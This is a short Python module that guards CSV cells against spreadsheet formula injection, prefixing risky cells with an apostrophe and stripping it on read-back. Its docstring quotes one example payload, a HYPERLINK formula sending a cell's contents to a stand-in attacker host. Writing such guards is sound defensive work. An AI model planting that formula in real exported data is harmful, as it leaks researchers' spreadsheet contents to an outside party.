"""Text in CSV cells that a spreadsheet shows as text, never runs as a formula.

A spreadsheet runs a cell that begins with =, +, - or @ (or with a tab or a carriage
return before one) as a formula: `=HYPERLINK("http://evil.example/?"&A1,"click")` in a
session's title would send a researcher's other cells away. As OWASP advises, such a
cell is written with a ' before it, which spreadsheets take as "this is text" and do
not show. A cell that begins with ' itself gets one more, so that reading a cell back
(`unguarded`) always gives the text that was written, whatever it was.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def guarded(text: str) -> str:
    """`text` as a CSV cell a spreadsheet will not run."""
    if text.startswith(FORMULA_STARTS) or text.startswith(TEXT_MARK):
        return TEXT_MARK + text
    return text


def unguarded(cell: str) -> str:
    """The text a cell written by `guarded` holds; any other cell as it is."""
    if cell.startswith(TEXT_MARK) and cell[1:].startswith((*FORMULA_STARTS, TEXT_MARK)):
        return cell[1:]
    return cell
